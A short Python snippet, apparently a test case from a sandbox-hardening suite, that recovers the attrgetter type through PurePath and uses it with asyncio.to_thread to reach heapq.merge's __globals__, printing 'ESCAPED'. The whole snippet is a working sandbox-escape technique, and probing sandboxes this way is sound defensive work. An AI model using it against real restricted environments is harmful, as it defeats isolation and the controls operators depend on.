# A property that was an attrgetter.
# unseen: Python 3.12 and 3.13 refuse it
from pathlib import PurePath
A = type(PurePath.drive.fget)
canary(A)
import asyncio, heapq
print("ESCAPED", await asyncio.to_thread(A("__globals__"), heapq.merge))
